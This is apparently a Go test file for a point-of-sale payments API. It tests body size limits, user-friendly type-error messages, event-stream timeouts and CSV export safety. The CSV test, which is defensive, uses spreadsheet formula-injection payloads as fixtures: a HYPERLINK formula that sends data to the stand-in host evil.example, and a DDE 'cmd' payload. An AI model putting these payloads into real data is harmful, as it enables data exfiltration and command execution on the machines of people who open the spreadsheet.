package server_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"
)

// problemOf reads a problem+json answer.
func problemOf(t *testing.T, r response) (p struct {
	Status              int
	Field, Detail, Code string
}) {
	t.Helper()
	if ct := r.header.Get("Content-Type"); ct != "application/problem+json" {
		t.Errorf("content type %q of %d %s", ct, r.status, r.body)
	}
	r.json(t, &p)
	return p
}

func TestBodyTooLarge(t *testing.T) {
	e := setup(t)
	huge := `{"value": 100, "externalRef": "` + strings.Repeat("a", 2<<20) + `"}`
	for _, path := range []string{"/api/v1/sales", "/api/v1/refunds", "/api/v1/sales/s_nope/confirmations"} {
		r := e.do("POST", path, "till-1", huge)
		p := problemOf(t, r)
		if r.status != http.StatusRequestEntityTooLarge || p.Status != 413 || p.Code != "too_large" || p.Detail != "body: larger than 1 MiB" {
			t.Errorf("%s with a 2 MiB body: %d %s", path, r.status, r.body)
		}
	}
	// the Idempotency-Key middleware reads the body first: the same answer,
	// and the key is not spent on it
	r := e.do("POST", "/api/v1/sales", "till-1", huge, "Idempotency-Key", "k-huge")
	if p := problemOf(t, r); r.status != http.StatusRequestEntityTooLarge || p.Code != "too_large" {
		t.Errorf("a 2 MiB body with an Idempotency-Key: %d %s", r.status, r.body)
	}
	if r := e.do("POST", "/api/v1/sales", "till-1", map[string]any{"value": 100}, "Idempotency-Key", "k-huge"); r.status != http.StatusCreated {
		t.Errorf("the key after a body too large: %d %s", r.status, r.body)
	}
	// just under the limit is read in full
	padded := `{"value": 100,` + strings.Repeat(" ", 1<<20-len(`{"value": 100,"externalRef": "R-PAD"}`)) + `"externalRef": "R-PAD"}`
	if len(padded) != 1<<20 {
		t.Fatalf("padded body is %d bytes", len(padded))
	}
	if r := e.do("POST", "/api/v1/sales", "till-1", padded); r.status != http.StatusCreated {
		t.Errorf("a 1 MiB body: %d %s", r.status, r.body)
	}
	if r := e.do("POST", "/api/v1/sales", "till-1", padded+" "); r.status != http.StatusRequestEntityTooLarge {
		t.Errorf("a body one byte over 1 MiB: %d %s", r.status, r.body)
	}
}

// goNames matches what only Go would say: its type names and package
// qualifiers.
var goNames = regexp.MustCompile(`\b(u?int(8|16|32|64)?|string|bool|float(32|64)|rune|byte|struct|map|interface|slice|BigNumber|LineItem|Classification|saleRequest|RefundInput|ConfirmInput|json|Go|unmarshal)\b|\b(server|pos|centrapay|big|time)\.|\[\]`)

func TestTypeErrorsInUsersWords(t *testing.T) {
	e := setup(t)
	// the JSON kinds a field may be sent; each field is sent every kind
	// it does not take
	kinds := map[string]string{"text": `"x"`, "whole": `7`, "fraction": `1.5`, "bool": `true`, "list": `[1]`, "object": `{"a": 1}`}
	type field struct {
		path  string // as the problem names it
		takes []string
		words string // in the detail
	}
	text := []string{"text"}
	number := []string{"whole", "fraction"} // a BigNumber: "x" is not a number, so it is sent too
	saleFields := []field{
		{"value", []string{"whole"}, "a whole number of cents"},
		{"externalRef", text, "text"},
		{"flow", text, "text"},
		{"barcode", text, "text"},
		{"lineItems", nil, ""},
		{"patronNotPresent", []string{"bool"}, "true or false"},
		{"basketAmount", []string{"whole"}, "a whole number of cents"},
		{"preAuth", []string{"bool"}, "true or false"},
		{"operatorId", text, "text"},
		{"lineItems.name", text, "text"},
		{"lineItems.sku", text, "text"},
		{"lineItems.qty", number, "a number"},
		{"lineItems.price", number, "a number of cents"},
		{"lineItems.tax", number, "a number"},
		{"lineItems.discount", number, "a number of cents"},
		{"lineItems.productId", text, "text"},
		{"lineItems.restricted", []string{"bool"}, "true or false"},
		{"lineItems.classification", []string{"object"}, "an object"},
		{"lineItems.classification.type", text, "text"},
		{"lineItems.classification.code", text, "text"},
		{"lineItems.classification.name", text, "text"},
		{"lineItems.classification.props", []string{"object"}, "an object"},
	}
	refundFields := []field{
		{"saleId", text, "text"},
		{"paymentRequestId", text, "text"},
		{"shortCode", text, "text"},
		{"externalRef", text, "text"},
		{"value", []string{"whole"}, "a whole number of cents"},
		{"reason", text, "text"},
		{"confirmationIdempotencyKey", text, "text"},
	}
	confirmFields := []field{
		{"invoiceRef", text, "text"},
		{"lineItems", nil, ""},
		{"idempotencyKey", text, "text"},
		{"lineItems.price", number, "a number of cents"},
	}
	// body puts raw at path in a body that is otherwise right
	body := func(base, path, raw string) string {
		names := strings.Split(path, ".")
		v := raw
		for i := len(names) - 1; i >= 0; i-- {
			switch {
			case i == 0:
				v = `{` + base + `, "` + names[i] + `": ` + v + `}`
			case names[i-1] == "lineItems":
				v = `[{"name": "a", "qty": "1", "price": "100", "` + names[i] + `": ` + v + `}]`
			default:
				v = `{"` + names[i] + `": ` + v + `}`
			}
		}
		return v
	}
	for _, ep := range []struct {
		path, base string
		fields     []field
	}{
		{"/api/v1/sales", `"value": 100`, saleFields},
		{"/api/v1/refunds", `"value": 100`, refundFields},
		{"/api/v1/sales/s_nope/confirmations", `"invoiceRef": "INV-1"`, confirmFields},
	} {
		for _, f := range ep.fields {
			for kind, raw := range kinds {
				if kind == "list" && strings.HasSuffix(f.path, "lineItems") {
					raw = `[1]` // a list, of something that is no line item
				} else if contains(f.takes, kind) || f.takes == nil && kind == "list" {
					continue
				}
				b := body(ep.base, f.path, raw)
				if !json.Valid([]byte(b)) {
					t.Fatalf("test body %s", b)
				}
				r := e.do("POST", ep.path, "till-1", b)
				p := problemOf(t, r)
				name := ep.path + " " + f.path + " = " + raw
				switch {
				case r.status != http.StatusBadRequest:
					t.Errorf("%s: %d %s", name, r.status, r.body)
				case p.Field != f.path:
					t.Errorf("%s: names field %q: %s", name, p.Field, r.body)
				case goNames.MatchString(p.Detail):
					t.Errorf("%s: Go in the message: %q", name, p.Detail)
				case f.words != "" && !strings.Contains(p.Detail, "must be "+f.words):
					t.Errorf("%s: %q does not say it must be %s", name, p.Detail, f.words)
				}
			}
		}
	}
	// what was sent is said in the same words; a number too long is cut
	for _, tc := range []struct{ body, detail string }{
		{`{"value": "12.50"}`, "value: must be a whole number of cents, not text"},
		{`{"value": 12.5}`, "value: must be a whole number of cents, not 12.5"},
		{`{"value": 99999999999999999999}`, "value: must be a whole number of cents, not 99999999999999999999, which is out of range"},
		{`{"value": 1` + strings.Repeat("0", 1000) + `}`, "value: must be a whole number of cents, not 10000000000000000000…, which is out of range"},
		{`{"value": 100, "externalRef": 12}`, "externalRef: must be text, not a number"},
		{`{"value": 100, "preAuth": "yes"}`, "preAuth: must be true or false, not text"},
		{`{"value": 100, "lineItems": {}}`, "lineItems: must be a list, not an object"},
		{`{"value": 100, "lineItems": [{"price": "ten"}]}`, `lineItems.price: must be a number of cents, such as 1250 or "1250", not text that is not a number`},
		{`{"value": 100, "lineItems": [{"qty": true}]}`, `lineItems.qty: must be a number, such as 2 or "1.5", not true or false`},
		{`[{"value": 100}]`, "body: must be an object, not a list"},
		{`"sale"`, "body: must be an object, not text"},
	} {
		r := e.do("POST", "/api/v1/sales", "till-1", tc.body)
		if p := problemOf(t, r); r.status != http.StatusBadRequest || p.Detail != tc.detail {
			t.Errorf("%.60s: %d %q, want %q", tc.body, r.status, p.Detail, tc.detail)
		}
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

// An event stream outlives the server's read and write timeouts: it
// clears the one and moves the other on before each write.
func TestEventStreamOutlivesServerTimeouts(t *testing.T) {
	e := setup(t)
	ts := httptest.NewUnstartedServer(e.srv)
	ts.Config.ReadTimeout = 200 * time.Millisecond
	ts.Config.WriteTimeout = 200 * time.Millisecond
	ts.Start()
	t.Cleanup(ts.Close)
	s := e.sale("till-1", map[string]any{"value": 400})
	req, _ := http.NewRequest("GET", ts.URL+"/api/v1/sales/"+s.ID+"/events", nil)
	req.Header.Set("Authorization", "Bearer "+e.tokens["till-1"])
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	events := make(chan string)
	go func() {
		defer close(events)
		sc := bufio.NewScanner(resp.Body)
		for sc.Scan() {
			if d, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
				events <- d
			}
		}
	}()
	if first := <-events; !strings.Contains(first, `"status":"pending"`) {
		t.Fatalf("first event %s", first)
	}
	time.Sleep(600 * time.Millisecond) // three times both timeouts
	e.sb.PatronPay(s.PaymentRequest.ID, "", 0)
	e.tick()
	select {
	case d, ok := <-events:
		if !ok || !strings.Contains(d, `"status":"paid"`) {
			t.Errorf("after the timeouts: %q (stream open: %v)", d, ok)
		}
	case <-time.After(10 * time.Second):
		t.Error("no event after the timeouts")
	}
	// an ordinary request on a server with these timeouts still works
	r, err := http.Get(ts.URL + "/healthz")
	if err != nil || r.StatusCode != 200 {
		t.Errorf("healthz: %v %v", r, err)
	} else {
		r.Body.Close()
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	e := setup(t)
	ref := `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	s := e.sale("till-1", map[string]any{"value": 1500, "externalRef": ref, "flow": "barcode", "barcode": e.sb.Scenarios()["quick-pay"].Barcode})
	if got := e.get("till-1", s.ID); got.Status != "paid" {
		t.Fatalf("sale %s", got.Status)
	}
	for i, reason := range []string{"@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1", "plain"} {
		r := e.do("POST", "/api/v1/refunds", "till-1", map[string]any{"saleId": s.ID, "value": 100 + i, "reason": reason})
		if r.status != http.StatusCreated {
			t.Fatalf("refund: %d %s", r.status, r.body)
		}
	}
	r := e.do("GET", "/api/v1/reports/transactions?from=2026-11-25&format=csv", "manager", nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(rows) != 6 {
		t.Fatalf("csv: %v\n%s", err, r.body)
	}
	head := map[string]int{}
	for i, h := range rows[0] {
		head[h] = i
	}
	sale := rows[1]
	if sale[head["external_ref"]] != "'"+ref {
		t.Errorf("external_ref cell %q: a formula", sale[head["external_ref"]])
	}
	if sale[head["amount"]] != "15.00" {
		t.Errorf("amount cell %q", sale[head["amount"]])
	}
	reasons := map[string]bool{}
	for _, row := range rows[2:] {
		reasons[row[head["reason"]]] = true
		if v := row[head["amount"]]; strings.HasPrefix(v, "'") {
			t.Errorf("amount cell %q quoted", v)
		}
	}
	for _, want := range []string{"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'+1", "plain"} {
		if !reasons[want] {
			t.Errorf("no reason cell %q in %v", want, reasons)
		}
	}
	// the cells a spreadsheet would run are none
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("cell %q begins a formula", cell)
			}
		}
	}
}
